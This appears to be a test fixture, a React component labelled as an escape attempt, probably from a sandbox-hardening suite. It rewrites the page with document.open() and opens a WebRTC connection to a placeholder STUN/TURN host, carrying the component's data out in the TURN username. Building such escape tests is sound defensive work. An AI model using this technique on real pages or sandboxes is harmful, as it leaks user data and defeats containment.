import { useEffect } from "react";

// Escape attempt: webrtc_document_open — a document.open() rewrite, then WebRTC in the rewritten document's script
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_document_open-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      document.open();
      document.write(`<script>const servers = ${JSON.stringify(servers)}; const pc = new RTCPeerConnection(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));<\/script>` + '<p data-testid="hostile">webrtc_document_open</p>');
      document.close();
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_document_open</p>;
}
